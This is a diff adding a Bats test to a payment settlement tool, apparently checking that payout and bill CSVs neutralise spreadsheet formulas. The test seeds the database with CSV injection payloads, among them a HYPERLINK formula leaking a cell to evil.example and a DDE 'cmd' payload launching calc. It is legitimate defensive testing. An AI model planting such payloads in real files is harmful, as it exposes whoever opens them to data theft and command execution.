@@ -190,6 +190,58 @@ m:cafe01,6222000011112222,99.40,CNY,$sid"
 	assert_equal "$(find "$out" -name '*.tmp.*' ! -type l | wc -l)" 0
 }
 
+@test "payout files and bills neutralise spreadsheet formulas and quote per RFC 4180; amounts stay numbers" {
+	wpay-bind merchant add shop03 --name "Shop Three" --city Beijing >/dev/null
+	pay cafe01 o1 100.00
+	pay cafe01 o2 20.00
+	pay cafe01 o3 30.00
+	pay shop02 o1 20.00
+	pay shop03 o1 30.00
+	wpay-refund cafe01 o1 r1 --amount 10.00 >/dev/null
+	# Values stored before they were checked where they enter: old data, put in directly.
+	sqlite3 "$WPAY_DB" <<-'SQL'
+		UPDATE merchants SET bank_account = '=HYPERLINK("http://evil.example/?"&A1,"Click")' WHERE id = 'cafe01';
+		UPDATE merchants SET bank_account = '@SUM(1)' WHERE id = 'shop02';
+		UPDATE merchants SET bank_account = '+1' WHERE id = 'shop03';
+		UPDATE orders SET out_trade_no = '-2+3+cmd|'' /C calc''!A0' WHERE merchant_id = 'cafe01' AND out_trade_no = 'o1';
+		UPDATE orders SET out_trade_no = 'a,"b";c' WHERE merchant_id = 'cafe01' AND out_trade_no = 'o2';
+		UPDATE orders SET out_trade_no = char(9) || '=1+1' WHERE merchant_id = 'cafe01' AND out_trade_no = 'o3';
+	SQL
+	export WPAY_NOW=2026-11-05T01:00:00Z
+	out="$BATS_TEST_TMPDIR/out"
+	run --separate-stderr wpay-settle --out "$out"
+	assert_success
+	payouts="$out/payouts-2026-11-05.csv"
+	bill="$out/bill-2026-11-05-cafe01.csv"
+	# The exact lines: a guarded field is quoted when it holds , " or ;.
+	assert_equal "$(sed -n 2p "$payouts" | cut -d, -f1-4)" 'm:cafe01,"'"'"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",139.16'
+	assert_equal "$(sed -n 3p "$payouts" | cut -d, -f1-3)" "m:shop02,'@SUM(1),19.88"
+	assert_equal "$(sed -n 4p "$payouts" | cut -d, -f1-3)" "m:shop03,'+1,29.82"
+	# Read back as a spreadsheet would: every text field that began like a
+	# formula now begins with a quote; every amount is a number, negative ones too.
+	run python3 - "$payouts" "$bill" <<-'PY'
+		import csv, sys
+		payouts = list(csv.reader(open(sys.argv[1], newline="")))
+		bill = list(csv.reader(open(sys.argv[2], newline="")))
+		assert [r[1] for r in payouts[1:]] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(1)", "'+1"], payouts
+		trades = [r for r in bill[1:] if r[0] in ("payment", "refund")]
+		assert sorted(r[3] for r in trades) == sorted(["'-2+3+cmd|' /C calc'!A0", 'a,"b";c', "'\t=1+1", "'-2+3+cmd|' /C calc'!A0"]), trades
+		for r in bill[1:]:
+		    assert len(r) == 9, r
+		    for cell in r[5:8]:
+		        assert cell == "" or float(cell) is not None, r
+		refund = [r for r in bill if r[0] == "refund"][0]
+		assert refund[5:8] == ["-10.00", "-0.06", "-9.94"], refund
+		for rows in (payouts, bill):
+		    for r in rows:
+		        for cell in r:
+		            assert not (cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not cell[1:].replace(".", "").isdigit())), cell
+		print("ok")
+	PY
+	assert_success
+	assert_output ok
+}
+
 @test "a crash between two merchants leaves the first settled; the rerun completes the rest" {
 	pay cafe01 o1 100.00
 	pay shop02 o1 20.00
